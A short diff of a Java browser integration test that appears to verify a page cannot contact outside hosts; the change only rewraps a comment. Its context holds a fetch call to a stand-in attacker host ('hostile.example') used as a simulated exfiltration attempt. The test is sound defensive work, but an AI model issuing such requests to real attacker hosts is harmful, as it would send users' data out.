@@ -228,7 +228,8 @@ class SnapshotPageIT {
         fetch('http://hostile.example/t').catch(() => 'refused')
         """);
     browser.awaitTrue("new Promise(done => setTimeout(() => done(!('stolen' in window)), 1000))");
-    // Chromium itself asks its maker for the time and for updates; nobody else is asked for anything.
+    // Chromium itself asks its maker for the time and for updates; nobody else is asked for
+    // anything.
     List<String> asked =
         PROXY.asked().stream()
             .filter(line -> !line.contains(".google.com") && !line.contains(".googleapis.com"))
